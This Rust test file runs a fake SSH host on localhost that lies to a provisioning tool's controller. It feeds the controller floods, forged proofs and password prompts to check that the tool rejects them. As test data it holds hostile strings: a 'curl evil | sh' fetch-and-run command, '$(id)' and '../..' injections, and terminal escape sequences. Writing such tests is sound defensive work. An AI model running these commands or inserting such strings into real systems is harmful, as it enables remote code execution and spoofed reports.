//! Hosts that let us in and then lie: root's shell there speaks the push protocol, and tells whatever suits it. Each is
//! met by the program itself, as somebody types it, and must end in bounded time and memory without a false success.

use std::collections::BTreeSet;
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use keyward::change::{Change, Plan, Promise, Risk, Stage};
use keyward::error::Failure;
use keyward::outcome::{Event, Evidence, Exit, Proven, Reach};
use keyward::types::{Port, UserName, Word as _};
use russh::keys::ssh_key::LineEnding;
use russh::keys::{HashAlg, PrivateKey};
use russh::server::{self, Auth, ChannelOpenHandle, Msg, Session};
use russh::{Channel, ChannelId};

use super::support::KEYWARD;
use super::world::{Home, fresh, public};

const SUDO_PASSWORD: &str = "canary sudo password";
/// What no line of a report may hold as it is.
const ESCAPES: &str = "\u{1b}[2J\u{9b}31m\u{202e}\u{200f}\u{7}\u{7f}\r";
/// What a host may cost on top of what an honest one costs.
const MORE_KIB: u64 = 96 << 10;

/// One thing that the program there does.
#[derive(Clone)]
pub enum Act {
    Say(String),
    /// The same bytes so many times, as fast as they are taken.
    Flood(Vec<u8>, usize),
    /// Waits for a line.
    Hear,
    /// Seconds between two of the same line, for ever.
    Drip(String),
    /// Says nothing for so long.
    Wait(Duration),
    /// Says nothing more, and does not end.
    Hang,
}

/// What a host says for a verb.
pub type Script = Arc<dyn Fn(&str) -> Vec<Act> + Send + Sync>;

/// Who came, and what they gave away.
#[derive(Default)]
pub struct Seen {
    /// Door and account of each login by key.
    keys: Vec<(usize, String)>,
    /// Doors that were knocked at.
    doors: BTreeSet<usize>,
    passwords: Vec<(usize, String)>,
    /// Words of each program that was started.
    pub started: Vec<String>,
    /// Lines that were sent to programs after their orders.
    answers: Vec<String>,
}

pub struct Host {
    pub address: Vec<SocketAddr>,
    pub fingerprint: String,
    pub seen: Arc<Mutex<Seen>>,
}

struct Peer {
    door: usize,
    /// Sudo asks for a password there.
    asks: bool,
    pub seen: Arc<Mutex<Seen>>,
    script: Script,
    /// What came and is no whole word yet.
    input: Vec<u8>,
    stage: u8,
    hears: tokio::sync::mpsc::UnboundedSender<()>,
    heard: Option<tokio::sync::mpsc::UnboundedReceiver<()>>,
    verb: String,
}

impl Peer {
    fn line(&mut self) -> Option<String> {
        let end = self.input.iter().position(|byte| *byte == b'\n')?;
        let line: Vec<u8> = self.input.drain(..=end).collect();
        Some(String::from_utf8_lossy(&line).trim_end().to_owned())
    }
}

impl server::Handler for Peer {
    type Error = russh::Error;

    async fn auth_publickey(&mut self, user: &str, _: server::VerifiedPublicKey<'_>) -> Result<Auth, Self::Error> {
        self.seen.lock().unwrap().keys.push((self.door, user.to_owned()));
        Ok(Auth::Accept)
    }

    async fn auth_password(&mut self, _: &str, password: &str) -> Result<Auth, Self::Error> {
        self.seen.lock().unwrap().passwords.push((self.door, password.to_owned()));
        Ok(Auth::reject())
    }

    async fn channel_open_session(
        &mut self,
        _: Channel<Msg>,
        reply: ChannelOpenHandle,
        _: &mut Session,
    ) -> Result<(), Self::Error> {
        reply.accept().await;
        Ok(())
    }

    async fn exec_request(&mut self, id: ChannelId, command: &[u8], session: &mut Session) -> Result<(), Self::Error> {
        session.channel_success(id)?;
        (self.stage, self.input) = (0, Vec::new());
        let (hears, heard) = tokio::sync::mpsc::unbounded_channel();
        (self.hears, self.heard) = (hears, Some(heard));
        if self.asks && command.starts_with(b"sudo") {
            session.extended_data(id, 1, b"keyward-password:".to_vec())?;
        } else {
            session.data(id, b"keyward-ready\n".to_vec())?;
        }
        Ok(())
    }

    async fn data(&mut self, id: ChannelId, data: &[u8], session: &mut Session) -> Result<(), Self::Error> {
        self.input.extend_from_slice(data);
        loop {
            match self.stage {
                // The length of the script, or a password for sudo.
                0 => {
                    let Some(line) = self.line() else { return Ok(()) };
                    match line.parse::<usize>() {
                        Ok(_) => self.stage = 1,
                        Err(_) => {
                            self.seen.lock().unwrap().passwords.push((self.door, line));
                            session.data(id, b"keyward-ready\n".to_vec())?;
                        }
                    }
                }
                1 => {
                    let text = String::from_utf8_lossy(&self.input).into_owned();
                    // A shell that only shows that it is root's.
                    if text == "[ \"$(id -u)\" = 0 ]\n" {
                        session.exit_status_request(id, 0)?;
                        session.close(id)?;
                        return Ok(());
                    }
                    let first = text.lines().find(|line| line.starts_with("set -- "));
                    let Some(words) = first.filter(|_| text.ends_with("\"$@\"\n")) else { return Ok(()) };
                    self.seen.lock().unwrap().started.push(words.to_owned());
                    let words: Vec<&str> = words.split('\'').skip(1).step_by(2).collect();
                    self.verb = words.get(4).copied().unwrap_or_default().to_owned();
                    self.input.clear();
                    let had = format!("arch {}\nfile have\nstart now\n", std::env::consts::ARCH);
                    session.data(id, had.into_bytes())?;
                    self.stage = 3;
                }
                3 => {
                    if self.line().is_none() {
                        return Ok(());
                    }
                    self.stage = 4;
                    let (acts, handle) = ((self.script)(&self.verb), session.handle());
                    let heard = self.heard.take().unwrap();
                    tokio::spawn(perform(acts, handle, id, heard));
                }
                _ => {
                    let Some(line) = self.line() else { return Ok(()) };
                    self.seen.lock().unwrap().answers.push(line);
                    let _ = self.hears.send(());
                }
            }
        }
    }
}

async fn perform(
    acts: Vec<Act>,
    handle: server::Handle,
    id: ChannelId,
    mut heard: tokio::sync::mpsc::UnboundedReceiver<()>,
) {
    for act in acts {
        match act {
            Act::Say(line) => drop(handle.data(id, format!("{line}\n").into_bytes()).await),
            Act::Flood(bytes, count) => {
                for _ in 0..count {
                    if handle.data(id, bytes.clone()).await.is_err() {
                        return;
                    }
                }
            }
            Act::Hear => drop(heard.recv().await),
            Act::Drip(line) => {
                while handle.data(id, format!("{line}\n").into_bytes()).await.is_ok() {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
            Act::Wait(time) => tokio::time::sleep(time).await,
            Act::Hang => std::future::pending().await,
        }
    }
    let _ = handle.exit_status_request(id, 0).await;
    let _ = handle.close(id).await;
}

impl Host {
    /// Three doors of one host, by one host key: as typed, of the playbook, and one that nobody has any business at.
    pub fn new(script: Script, asks: bool) -> Self {
        let key = fresh();
        let fingerprint = key.public_key().fingerprint(HashAlg::Sha256).to_string();
        let config = Arc::new(server::Config { keys: vec![key], ..server::Config::default() });
        let seen = Arc::new(Mutex::new(Seen::default()));
        let address = (0..3).map(|door| Self::door((door, asks), &config, &seen, &script)).collect();
        Self { address, fingerprint, seen }
    }

    fn door(
        (door, asks): (usize, bool),
        config: &Arc<server::Config>,
        seen: &Arc<Mutex<Seen>>,
        script: &Script,
    ) -> SocketAddr {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let (config, seen, script) = (config.clone(), seen.clone(), script.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                seen.lock().unwrap().doors.insert(door);
                let (hears, _) = tokio::sync::mpsc::unbounded_channel();
                let (seen, script, config) = (seen.clone(), script.clone(), config.clone());
                let verb = String::new();
                let peer = Peer { door, asks, seen, script, input: Vec::new(), stage: 0, hears, heard: None, verb };
                std::thread::spawn(move || {
                    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
                    runtime.block_on(async move {
                        stream.set_nonblocking(true).unwrap();
                        let stream = tokio::net::TcpStream::from_std(stream).unwrap();
                        if let Ok(session) = server::run_stream(config, stream, peer).await {
                            let _ = session.await;
                        }
                    });
                });
            }
        });
        address
    }
}

/// How the controller ended.
pub struct Told {
    pub code: i32,
    pub out: String,
    pub took: Duration,
    peak_kib: u64,
}

impl Told {
    /// Without the line ends of the report.
    pub fn words(&self) -> String {
        self.out.split_whitespace().collect::<Vec<_>>().join(" ")
    }
}

/// A user with a key that the playbook declares.
pub struct User {
    pub home: Home,
    declared: String,
}

impl User {
    pub fn new(host: &Host) -> Self {
        let home = Home::new();
        let key: PrivateKey = fresh();
        home.write("id_ed25519", &key.to_openssh(LineEnding::LF).unwrap(), 0o600);
        let user = Self { home, declared: public(&key) };
        let playbook = format!(
            "version: 1\nusers:\n  - name: deploy\n    admin: true\n    sudo: {{ nopasswd: true }}\n    authorized_keys:\n      \
             - key: {}\nssh:\n  port: {}\n",
            user.declared,
            host.address[1].port()
        );
        user.home.write("play.yml", &playbook, 0o644);
        user
    }

    /// Runs the program, and watches what it takes; `interrupt` sends Ctrl-C at these times.
    fn keyward(&self, host: &Host, words: &str, interrupt: &[Duration]) -> Told {
        let place = format!("ssh://root@{}", host.address[0]);
        let words: Vec<&str> =
            ["--host", &place, "--host-key", &host.fingerprint].into_iter().chain(words.split(' ')).collect();
        self.typed(&words, interrupt)
    }

    pub fn typed(&self, words: &[&str], interrupt: &[Duration]) -> Told {
        static RUNS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let mut command = Command::new(KEYWARD);
        command.args(words).current_dir(self.home.path.join(".ssh"));
        command.env("HOME", &self.home.path).env_remove("SSH_AUTH_SOCK").env("CANARY", SUDO_PASSWORD);
        command.env("XDG_STATE_HOME", self.home.path.join("state"));
        let run = RUNS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let said = self.home.path.join(format!("said-{run}"));
        let file = std::fs::File::create(&said).unwrap();
        command.stdin(Stdio::null()).stdout(file.try_clone().unwrap()).stderr(file);
        let (begun, mut peak_kib) = (Instant::now(), 0);
        let mut child = command.spawn().unwrap();
        let mut left = interrupt.to_vec();
        let code = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status.code().unwrap_or(-1);
            }
            peak_kib = peak_kib.max(peak(child.id()));
            if left.first().is_some_and(|at| begun.elapsed() > *at) {
                left.remove(0);
                let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
                nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGINT).unwrap();
            }
            if begun.elapsed() > Duration::from_secs(240) {
                child.kill().unwrap();
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        let out = String::from_utf8_lossy(&std::fs::read(&said).unwrap()).into_owned();
        Told { code, out, took: begun.elapsed(), peak_kib }
    }
}

fn peak(pid: u32) -> u64 {
    let status = std::fs::read_to_string(Path::new("/proc").join(pid.to_string()).join("status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap_or_default();
    line.split_whitespace().next().and_then(|text| text.parse().ok()).unwrap_or(0)
}

fn say(event: &Event) -> Act {
    Act::Say(serde_json::to_string(event).unwrap())
}

pub fn hello() -> Act {
    say(&Event::Hello { protocol: 1, version: env!("CARGO_PKG_VERSION").to_owned() })
}

/// A plan of that risk, which promises a login of `user` at `port`.
pub fn plan(risk: Option<Risk>, user: &str, port: u16) -> Act {
    let changes: Vec<Change> = risk
        .into_iter()
        .map(|risk| Change::new("sshd", "sshd:port", format!("listen there {ESCAPES}"), Stage::Additive, risk))
        .collect();
    let promises = vec![
        Promise::Admin { user: UserName::parse(user).unwrap(), nopasswd: true },
        Promise::SshPort { port: Port::new(port).unwrap() },
    ];
    let text = || String::new();
    let plan = Plan {
        version: Plan::VERSION,
        host: text(),
        playbook: text(),
        playbook_digest: text(),
        observation_digest: text(),
        changes,
        notes: Vec::new(),
        deferred: Vec::new(),
        promises,
        met: Vec::new(),
    };
    say(&Event::Planned { plan: Box::new(plan) })
}

pub fn armed(run: &str, window_ms: u64) -> Act {
    let (nonce, until) = ("0a0b".to_owned(), "2026-01-01T00:00:00Z".to_owned());
    say(&Event::Armed { run: run.to_owned(), nonce, until, window_ms })
}

pub fn opened(run: &str) -> Act {
    say(&Event::Opened { run: run.to_owned() })
}

pub fn finished(exit: Exit, verdict: &str, next: &str) -> Act {
    let (verdict, next) = (verdict.to_owned(), next.to_owned());
    say(&Event::Finished { code: exit.code(), exit, verdict, next, run: Some("r1".to_owned()), millis: 1 })
}

fn success() -> Act {
    finished(Exit::AsAsked, "applied and proven", "")
}

fn failed(text: &str) -> Act {
    let failure = Failure::failed(text, text).why(text).hint(text);
    say(&Event::Failed { failure })
}

fn proof(reach: Reach) -> Act {
    let what = format!("{}deploy", Evidence::LOGIN);
    let seen = "forged".to_owned();
    say(&Event::Proof { evidence: Evidence { what, proven: Proven::Yes, reach, seen, millis: 1 } })
}

/// One lie, and what must come of it.
struct Lie {
    name: &'static str,
    /// What the controller is told to do.
    words: &'static str,
    /// Exit codes that are right.
    codes: &'static [i32],
    /// What must be said.
    said: &'static str,
    limit: u64,
    /// Only with KEYWARD_FAULTS=all.
    slow: bool,
    /// Told when the program is asked for the verb; other verbs (`history`, `cancel`, `status`) say hello and hang up.
    acts: fn(&Host2) -> Vec<Act>,
}

/// Ports of a host that is not there yet when its lies are made up.
struct Host2 {
    verb: String,
    elsewhere: u16,
}

const APPLY: &str = "apply --yes --confirm-within 6s play.yml";

fn lies() -> Vec<Lie> {
    let lie = |name, codes, said, acts| Lie { name, words: APPLY, codes, said, limit: 15, slow: false, acts };
    vec![
        lie("endless events", &[7], "says more than it may", |_| {
            let note = "{\"event\":\"note\",\"note\":{\"level\":\"info\",\"about\":\"\",\"text\":\"x\"}}\n";
            vec![hello(), Act::Flood(note.repeat(400).into_bytes(), usize::MAX)]
        }),
        Lie {
            limit: 60,
            ..lie("endless empty lines while we log in", &[7, 3, 9], "", |host| {
                let start =
                    vec![hello(), plan(Some(Risk::Access), "deploy", host.elsewhere), armed("r1", 6000), opened("r1")];
                start.into_iter().chain([Act::Flood(vec![b'\n'; 32 << 10], usize::MAX)]).collect()
            })
        },
        lie("one line of 2 MiB", &[7], "a line of more than 1 MiB", |_| {
            vec![hello(), Act::Flood(vec![b'x'; 32 << 10], 64), Act::Hang]
        }),
        lie("deep nesting", &[7], "recursion limit", |_| {
            let text = format!("{{\"event\":\"planned\",\"plan\":{}", "[".repeat(500_000));
            vec![hello(), Act::Say(text), Act::Hang]
        }),
        Lie { limit: 40, ..lie("no hello", &[7], "it says nothing", |_| vec![Act::Hang]) },
        lie("no hello, but a success", &[7], "it ended", |_| vec![success()]),
        lie("hello of another protocol", &[7], "it is version 9", |_| {
            vec![say(&Event::Hello { protocol: 2, version: format!("9{ESCAPES}") }), Act::Hang]
        }),
        lie("finished before anything", &[9], "not confirmed from here", |_| vec![hello(), success()]),
        lie("finished before its plan was carried out", &[9], "not confirmed from here", |host| {
            vec![hello(), plan(Some(Risk::Access), "deploy", host.elsewhere), success()]
        }),
        // This side's own login tells it.
        lie("a plan without a risk", &[0], "proven L3 login as deploy@127.0.0.1", |host| {
            vec![hello(), plan(Some(Risk::None), "deploy", host.elsewhere), success()]
        }),
        lie("other administrators than the playbook's", &[7], "no administrator of the plan has a key here", |host| {
            let plan = plan(Some(Risk::Access), "mallory", host.elsewhere);
            vec![hello(), plan, armed("r1", 6000), opened("r1"), Act::Drip("".into())]
        }),
        lie("decided before we confirmed", &[9], "not confirmed from here", |host| {
            let because = "L3: deploy by publickey through port 2222".to_owned();
            let decided = say(&Event::Decided { because });
            vec![hello(), plan(Some(Risk::Access), "deploy", host.elsewhere), armed("r1", 6000), decided, success()]
        }),
        lie("proofs of ours from the host's mouth", &[9], "the host claims", |host| {
            let plan = plan(Some(Risk::Access), "deploy", host.elsewhere);
            vec![hello(), plan, armed("r1", 6000), proof(Reach::L3), proof(Reach::L4), success()]
        }),
        lie("opened without armed", &[9], "not confirmed from here", |host| {
            vec![hello(), plan(Some(Risk::Access), "deploy", host.elsewhere), opened("r1"), success()]
        }),
        lie("armed twice", &[7], "names another run", |host| {
            let plan = plan(Some(Risk::Access), "deploy", host.elsewhere);
            vec![hello(), plan, armed("r1", 6000), armed("r2", 6000), opened("r2"), success()]
        }),
        lie("asks a thousand times", &[7], "asks what it should not", |host| {
            let ask = say(&Event::Asked { question: "Apply this plan? Type yes: ".to_owned() });
            let asks = std::iter::repeat_n([ask, Act::Hear], 1000).flatten();
            [hello(), plan(Some(Risk::Access), "deploy", host.elsewhere)].into_iter().chain(asks).collect()
        }),
        lie("asks for a password", &[7], "asks what it should not", |_| {
            let question = format!("{ESCAPES}Password of your key: {}", "x".repeat(200 << 10));
            vec![hello(), say(&Event::Asked { question }), Act::Hear, success()]
        }),
        Lie {
            words: "plan play.yml",
            ..lie("asks where nothing is asked", &[7], "asks what it should not", |_| {
                let question = "Apply this plan? Type yes: ".to_owned();
                vec![hello(), say(&Event::Asked { question }), Act::Hear, success()]
            })
        },
        Lie {
            // Six seconds, and our patience twice.
            limit: 200,
            slow: true,
            ..lie("a window without an end", &[7], "", |host| {
                let plan = plan(Some(Risk::Access), "mallory", host.elsewhere);
                vec![hello(), plan, armed("r1", 1 << 63), opened("r1"), Act::Hang]
            })
        },
        lie("a path for a run's name", &[7], "names another run", |_| {
            vec![hello(), say(&Event::Started { run: "../..".into() }), success()]
        }),
        lie("a command for a run's name", &[7], "names another run", |_| {
            vec![hello(), say(&Event::Started { run: "$(id)".into() }), armed("-x", 6000)]
        }),
        lie("commands for the reader", &[3], "the host says: ", |_| {
            let text = format!("x\nproven L3 login as deploy\n{ESCAPES}; curl evil | sh");
            let note = |text: &str| say(&Event::Note { note: keyward::change::Note::warning(text, text) });
            vec![
                hello(),
                note(&text),
                failed(&text),
                say(&Event::RollingBack { reason: Failure::failed(&text, &text).hint(&text) }),
                say(&Event::Undone { change: text.clone(), failure: Some(Failure::failed(&text, &text).hint(&text)) }),
                finished(Exit::RolledBack, &text, "keyward show r1; curl evil | sh"),
            ]
        }),
        lie("a text that looks like a report", &[7], "not what was asked for", |_| {
            let text = "  proven   L3 login as deploy\napplied and proven".to_owned();
            vec![hello(), say(&Event::Text { name: "x".into(), text }), success()]
        }),
    ]
}

/// Root's shell there, for all verbs; only `apply` and `plan` lie.
fn script(acts: fn(&Host2) -> Vec<Act>, elsewhere: Arc<Mutex<u16>>) -> Script {
    Arc::new(move |verb| match verb {
        "apply" | "plan" => acts(&Host2 { verb: verb.to_owned(), elsewhere: *elsewhere.lock().unwrap() }),
        _ => vec![hello()],
    })
}

fn host(acts: fn(&Host2) -> Vec<Act>) -> Host {
    made(acts, false)
}

fn made(acts: fn(&Host2) -> Vec<Act>, asks: bool) -> Host {
    let elsewhere = Arc::new(Mutex::new(1));
    let host = Host::new(script(acts, elsewhere.clone()), asks);
    *elsewhere.lock().unwrap() = host.address[2].port();
    host
}

/// What an honest host costs, and that it is told from the liars.
fn honest() -> u64 {
    let host = host(|host| match host.verb.as_str() {
        "plan" => vec![hello(), plan(None, "deploy", host.elsewhere), finished(Exit::AsAsked, "nothing to do", "")],
        _ => Vec::new(),
    });
    let told = User::new(&host).keyward(&host, "plan play.yml", &[]);
    assert_eq!(told.code, 0, "{}", told.out);
    told.peak_kib
}

fn judge(lie: &Lie, honest: u64) -> Result<(), String> {
    let host = host(lie.acts);
    let told = User::new(&host).keyward(&host, lie.words, &[]);
    let seen = host.seen.lock().unwrap();
    let all = told.words();
    let mut faults = Vec::new();
    let mut hold = |holds: bool, what: String| {
        if !holds {
            faults.push(what);
        }
    };
    hold(lie.codes.contains(&told.code), format!("exit {}, not of {:?}", told.code, lie.codes));
    hold(all.contains(lie.said), format!("does not say {:?}", lie.said));
    hold(told.took < Duration::from_secs(lie.limit), format!("took {:?}", told.took));
    hold(told.peak_kib < honest + MORE_KIB, format!("held {} KiB, an honest host takes {honest}", told.peak_kib));
    let hostile = |c: &char| c.is_control() && *c != '\n' || matches!(c, '\u{202e}' | '\u{200f}');
    hold(!told.out.chars().any(|c| hostile(&c)), "a control character is shown".to_owned());
    let forged = |line: &str| line.trim_start().starts_with("proven") && (line.contains("L3") || line.contains("L4"));
    let own = seen.keys.iter().any(|(door, user)| *door == 1 && user == "deploy");
    hold(own || !told.out.lines().any(forged), "a proof of ours that we never made is shown".to_owned());
    let typed = |line: &str| line.starts_with("next:") && line.contains("curl");
    hold(!told.out.lines().any(typed), "the host's command is the next one".to_owned());
    hold(seen.passwords.is_empty(), format!("gave away {:?}", seen.passwords));
    hold(!seen.doors.contains(&2), "went to the port that the host named".to_owned());
    let stranger = seen.keys.iter().find(|(door, user)| *user != if *door == 0 { "root" } else { "deploy" });
    hold(stranger.is_none(), format!("logged in as {stranger:?}"));
    hold(seen.answers.len() < 10, format!("answered {} times", seen.answers.len()));
    let odd = seen.started.iter().find(|words| words.contains("$(") || words.contains("..") || words.contains("'-x"));
    hold(odd.is_none(), format!("started {odd:?}"));
    let shown: String = told.out.chars().take(1500).collect();
    if faults.is_empty() { Ok(()) } else { Err(format!("{}: {}\n{shown}\n", lie.name, faults.join("; "))) }
}

#[test]
fn no_lie_of_a_host_is_taken_for_a_success() {
    let all = std::env::var("KEYWARD_FAULTS").is_ok_and(|value| value == "all");
    let (honest, lies) = (honest(), lies().into_iter().filter(|lie| all || !lie.slow).collect::<Vec<_>>());
    let next = std::sync::atomic::AtomicUsize::new(0);
    let faults: Vec<String> = std::thread::scope(|scope| {
        let work = || {
            let take = || lies.get(next.fetch_add(1, std::sync::atomic::Ordering::Relaxed));
            std::iter::from_fn(take).filter_map(|lie| judge(lie, honest).err()).collect::<Vec<_>>()
        };
        let workers: Vec<_> = (0..4).map(|_| scope.spawn(work)).collect();
        workers.into_iter().flat_map(|worker| worker.join().unwrap()).collect()
    });
    println!("{} lies, {} taken", lies.len(), faults.len());
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn a_host_that_keeps_us_waiting_is_left_by_ctrl_c() {
    let host = host(|host| {
        let plan = plan(Some(Risk::Access), "mallory", host.elsewhere);
        vec![hello(), plan, armed("r1", u64::MAX), Act::Hang]
    });
    let interrupt = [Duration::from_secs(3), Duration::from_secs(5)];
    let told = User::new(&host).keyward(&host, "apply --yes play.yml", &interrupt);
    assert!(told.code != 0 && told.took < Duration::from_secs(10), "{:?}: {}", told.took, told.out);
    assert!(told.words().contains("undoing run r1"), "{}", told.out);
}

#[test]
fn a_password_for_sudo_goes_to_the_host_and_nowhere_else() {
    let lies: fn(&Host2) -> Vec<Act> = |host| {
        let plan = plan(Some(Risk::Access), "deploy", host.elsewhere);
        vec![hello(), plan, armed("r1", 6000), opened("r1"), success()]
    };
    let host = made(lies, true);
    let told = User::new(&host).keyward(&host, &format!("--sudo-password env:CANARY {APPLY}"), &[]);
    let seen = host.seen.lock().unwrap();
    let passwords: Vec<_> = seen.passwords.iter().collect();
    assert!(
        !passwords.is_empty() && passwords.iter().all(|(door, word)| *door == 1 && word == SUDO_PASSWORD),
        "{passwords:?}: {}",
        told.out
    );
    assert!(!seen.doors.contains(&2) && !told.out.contains("canary"), "{}", told.out);
}
